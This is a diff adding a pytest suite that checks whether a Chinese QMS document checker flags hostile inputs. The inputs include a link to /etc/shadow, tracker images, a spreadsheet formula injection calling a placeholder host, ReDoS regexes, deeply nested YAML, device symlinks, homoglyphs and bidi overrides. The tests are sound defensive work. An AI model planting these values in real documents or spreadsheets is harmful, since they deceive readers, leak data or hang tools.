@@ -1,0 +1,244 @@
+"""Careless and hostile input found by `qmsdoc check`: each case is a coded finding at file:line with a
+Chinese message, never a traceback or a hang."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+
+from qmsdoc.core import check, load_config
+
+from conftest import Project
+
+DOC = "manuals/qp-hr/QP-02-03.md"
+FORM = "controlled_forms/QP-02-03-F001.yaml"
+MANUAL = "manuals/qp-hr/index.md"
+
+Case = Callable[[Project], tuple[str, str, int]]
+
+
+def findings(project: Project) -> list[str]:
+    return [f.format() for f in check(load_config(project.root)).findings]
+
+
+def assert_finding(project: Project, code: str, path: str, line: int, *words: str) -> str:
+    found = findings(project)
+    prefix = f"{path}:{line}: error {code} "
+    hits = [f for f in found if f.startswith(prefix)]
+    assert hits, f"want {prefix!r} in {found}"
+    assert any("\u4e00" <= ch <= "\u9fff" for ch in hits[0][len(prefix):])
+    for word in words:
+        assert word in hits[0], hits[0]
+    return hits[0]
+
+
+def body(project: Project, text: str) -> int:
+    project.replace(DOC, "4.4.3 归还办公用品。", f"4.4.3 归还办公用品。\n\n{text}\n")
+    return project.line_of(DOC, text.split("\n")[-1])
+
+
+def test_reference_style_definition_outside_the_repo_is_qd201(project: Project) -> None:
+    line = body(project, "见[影子文件][s]。\n\n[s]: /etc/shadow")
+    assert_finding(project, "QD201", DOC, line, "/etc/shadow")
+
+
+def test_reference_definition_in_manual_is_quiet(project: Project) -> None:
+    body(project, "见[说明][s]。\n\n[s]: https://www.iso.org/")
+    assert not [f for f in findings(project) if "QD201" in f]
+
+
+@pytest.mark.parametrize("text", ["![流程图](http://tracker.example/p.png)", "![流程图](//cdn.example/p.png)",
+                                  "![流程图][img]\n\n[img]: https://cdn.example/p.png"])
+def test_remote_images_are_qd202(project: Project, text: str) -> None:
+    line = body(project, text.split("\n")[0])
+    if "\n" in text:
+        project.replace(DOC, text.split("\n")[0], text)
+    assert_finding(project, "QD202", DOC, line)
+
+
+def test_remote_images_on_home_and_manual_pages_are_qd202(project: Project) -> None:
+    project.replace("manuals/index.md", "本网站发布", "![标志](https://tracker.example/logo.png)本网站发布")
+    project.replace(MANUAL, "本手册规定", "![图](http://x.example/a.png)本手册规定")
+    assert_finding(project, "QD202", "manuals/index.md", project.line_of("manuals/index.md", "![标志]"))
+    assert_finding(project, "QD202", MANUAL, project.line_of(MANUAL, "![图]"))
+
+
+def test_local_images_and_remote_links_are_quiet(project: Project) -> None:
+    body(project, "![流程图](assets/流程.png) [标准](https://www.iso.org/)")
+    assert not [f for f in findings(project) if "QD202" in f]
+
+
+def test_register_cells_are_never_formulas(project: Project, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    import datetime as dt
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from qmsdoc.records.register import write_registers
+
+    formula = '=HYPERLINK("http://x"&A1,"点击查看")'
+    project.replace(DOC, "title: 员工离职管理工作规程", f"title: '{formula}'")
+    project.replace(DOC, "department: 管家服务中心", "department: '@SUM(1+1)'")
+    result = check(load_config(project.root))
+    out = tmp_path / "records"
+    out.mkdir()
+    write_registers(result.corpus, project.root, out, dt.date(2026, 3, 1))
+    sheet = load_workbook(out / "register.xlsx")["受控文件清单"]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "QP-02-03")
+    assert row[1].value == formula and row[1].data_type == "s"
+    assert row[5].value == "@SUM(1+1)" and row[5].data_type == "s"
+    with zipfile.ZipFile(out / "register.xlsx") as book:
+        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
+    csv_text = (out / "register.csv").read_text("utf-8-sig")
+    assert "'=HYPERLINK" in csv_text and ",'@SUM(1+1)," in csv_text
+
+
+# -- nothing can make a check wait ----------------------------------------------------------------------
+
+def test_fifo_document_and_form_are_qd001_not_a_hang(project: Project) -> None:
+    import os
+
+    os.mkfifo(project.path("manuals/qp-hr/QP-02-09.md"))
+    os.mkfifo(project.path("controlled_forms/QP-02-03-F009.yaml"))
+    assert_finding(project, "QD001", "manuals/qp-hr/QP-02-09.md", 1, "普通文件")
+    assert_finding(project, "QD001", "controlled_forms/QP-02-03-F009.yaml", 1, "普通文件")
+
+
+def test_symlinks_to_devices_are_qd001_not_a_hang(project: Project) -> None:
+    import os
+
+    project.path("manuals/qp-hr/QP-02-08.md").symlink_to("/dev/zero")
+    project.path("manuals/qp-hr/图.png").symlink_to("/dev/zero")  # MkDocs would copy it for ever
+    os.mkfifo(project.path("manuals/qp-hr/assets.gif"))
+    assert_finding(project, "QD001", "manuals/qp-hr/QP-02-08.md", 1, "普通文件")
+    assert_finding(project, "QD001", "manuals/qp-hr/图.png", 1, "普通文件")
+    assert_finding(project, "QD001", "manuals/qp-hr/assets.gif", 1, "普通文件")
+
+
+def test_register_hashes_the_bytes_the_build_loaded(project: Project) -> None:
+    import hashlib
+
+    from qmsdoc.records.register import register_rows
+
+    original = project.path(DOC).read_bytes()
+    result = check(load_config(project.root))
+    project.replace(DOC, "4.4.3 归还办公用品。", "4.4.3 构建期间被修改。")  # edited while the build runs
+    row = next(r for r in register_rows(result.corpus, project.root, project.root / "none") if r[0] == "QP-02-03")
+    assert row[11] == hashlib.sha256(original).hexdigest()
+
+
+@pytest.mark.parametrize("pattern,word", [(r"^(\w+-?)+$", "嵌套"), (r"^(QP-\d{2}", "正则表达式"),
+                                          (r"^(QP|QP-0)+\d$", "多选分支")])
+def test_catastrophic_or_broken_numbering_patterns_are_qd010(project: Project, pattern: str, word: str) -> None:
+    project.replace(MANUAL, r"document: '^QP-\d{2}-\d{2}$'", f"document: '{pattern}'")
+    # A near-miss id that makes ^(\w+-?)+$ backtrack for about a minute if it were ever run.
+    project.replace(DOC, "id: QP-02-03", "id: QP-02-03-" + "A" * 28 + "!")
+    line = project.line_of(MANUAL, "document:")
+    assert_finding(project, "QD010", MANUAL, line, word)
+
+
+def test_shipped_numbering_patterns_are_accepted() -> None:
+    from conftest import REPO
+
+    result = check(load_config(REPO))
+    assert not [f for f in result.findings if f.code in ("QD010", "QD011")]
+
+
+def test_yaml_nested_5000_deep_is_qd011(project: Project) -> None:
+    project.replace(DOC, "department: 管家服务中心", "department: " + "[" * 5000 + "]" * 5000)
+    assert_finding(project, "QD011", DOC, project.line_of(DOC, "department:"), "嵌套")
+
+
+def test_form_yaml_nested_deep_is_qd011(project: Project) -> None:
+    project.write(FORM, "code: QP-02-03-F001\nx:\n" + "".join("  " * i + "- a:\n" for i in range(1, 200)))
+    assert_finding(project, "QD011", FORM, 41)
+
+
+def test_markdown_list_nested_1000_levels_is_qd011(project: Project) -> None:
+    nested = "\n".join("  " * i + "- 层" for i in range(1000))
+    first = body(project, nested.split("\n")[0])
+    project.replace(DOC, "\n- 层\n", "\n" + nested + "\n")
+    assert_finding(project, "QD011", DOC, first + 41, "嵌套")
+
+
+def test_markdown_quotes_on_one_line_are_qd011(project: Project) -> None:
+    line = body(project, "> " * 300 + "引用")
+    assert_finding(project, "QD011", DOC, line)
+
+
+# -- YAML says what it means -------------------------------------------------------------------------
+
+def test_duplicate_key_names_both_lines(project: Project) -> None:
+    project.replace(DOC, "department: 管家服务中心", "department: 管家服务中心\nstatus: draft")
+    first, second = project.line_of(DOC, "status: effective"), project.line_of(DOC, "status: draft")
+    assert_finding(project, "QD004", DOC, second, f"第 {first} 行", f"第 {second} 行")
+
+
+def test_duplicate_key_in_form_is_qd004(project: Project) -> None:
+    project.replace(FORM, "retention: 3 年", "retention: 3 年\nretention: 永久")
+    assert_finding(project, "QD004", FORM, project.line_of(FORM, "retention: 永久"), "retention")
+
+
+@pytest.mark.parametrize("old,new,needle,word", [
+    ("review_months: 12", "review_months: 12\n2026: 年度", "2026: 年度", "不是文字"),
+    ("effective_date: 2026-03-01", "effective_date: 9999-06-01", "effective_date", "1900"),
+    ("effective_date: 2026-03-01", "effective_date: 1066-10-14", "effective_date", "1900"),
+    ("review_months: 12", "review_months: 12.0", "review_months", "整数"),
+    ("review_months: 12", "review_months: " + "9" * 5000, "review_months", "过大"),
+    ("id: QP-02-03", "id: QP-02-03" + "0" * 70, "id:", "过长"),
+])
+def test_values_the_schema_must_refuse(project: Project, old: str, new: str, needle: str, word: str) -> None:
+    project.replace(DOC, old, new)
+    assert_finding(project, "QD004", DOC, project.line_of(DOC, needle), word)
+
+
+@pytest.mark.parametrize("setting", ["review_warning_days: 99999999999", "max_file_bytes: true",
+                                     "required_sections: {job-description: 5}", "build_dir: ''"])
+def test_unusable_configuration_is_exit_2(project: Project, setting: str) -> None:
+    import subprocess
+    import sys
+
+    key = setting.split(":")[0]
+    text = project.read("qmsdoc.yml")
+    lines = [line for line in text.split("\n") if not line.startswith(f"{key}:")]
+    if key == "required_sections":
+        lines = lines[: next(i for i, line in enumerate(lines) if line.startswith("  procedure"))]
+    project.write("qmsdoc.yml", "\n".join(lines) + f"\n{setting}\n")
+    result = subprocess.run([sys.executable, "-m", "qmsdoc.cli", "check"], cwd=project.root, capture_output=True,
+                            text=True, timeout=120)
+    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
+    assert "配置错误" in result.stderr and key in result.stderr
+
+
+# -- identity: an id is what it looks like ----------------------------------------------------------
+
+def test_id_with_arabic_indic_digit_names_the_character(project: Project) -> None:
+    project.replace(DOC, "id: QP-02-03", "id: QP-02-0\u0661")
+    assert_finding(project, "QD012", DOC, 2, "U+0661 ARABIC-INDIC DIGIT ONE")
+
+
+def test_form_code_with_cyrillic_letter_is_qd012(project: Project) -> None:
+    project.replace(FORM, "code: QP-02-03-F001", "code: QP-02-03-\u0424001")
+    assert_finding(project, "QD012", FORM, project.line_of(FORM, "code:"), "CYRILLIC")
+
+
+def test_fullwidth_and_dash_variants_are_still_accepted(project: Project) -> None:
+    project.replace(DOC, "id: QP-02-03", "id: ＱＰ－02—03")
+    assert not [f for f in findings(project) if "QD012" in f]
+
+
+@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200b", "\ufeff", "\u200f"])
+def test_invisible_characters_in_any_field_are_qd013(project: Project, char: str) -> None:
+    project.replace(FORM, "- {label: 姓名}", f"- {{label: 姓{char}名}}")
+    assert_finding(project, "QD013", FORM, project.line_of(FORM, "label: 姓"), f"U+{ord(char):04X}")
+
+
+def test_bidi_override_in_body_is_qd013(project: Project) -> None:
+    line = body(project, "审批金额\u202e0001\u202c元")
+    assert_finding(project, "QD013", DOC, line, "RIGHT-TO-LEFT OVERRIDE")
+
+
+def test_two_manuals_with_one_id_are_qd014(project: Project) -> None:
+    project.write("manuals/qp-hr2/index.md", project.read(MANUAL))
+    assert_finding(project, "QD014", "manuals/qp-hr2/index.md", 2, "manuals/qp-hr/index.md")
